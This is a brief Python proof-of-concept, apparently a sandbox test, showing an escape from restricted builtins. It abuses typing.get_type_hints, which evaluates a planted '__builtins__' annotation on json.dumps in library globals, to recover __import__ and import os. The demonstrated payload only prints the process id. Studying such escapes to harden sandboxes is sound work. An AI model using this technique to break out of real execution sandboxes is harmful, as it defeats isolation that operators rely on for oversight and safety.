# proves: prints ESCAPED pid; get_type_hints resolves text in the namespace of library code

import json, typing
json.dumps.__annotations__["x"] = "__builtins__"
g = {"__builtins__": typing.get_type_hints(json.dumps)["x"]}
print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
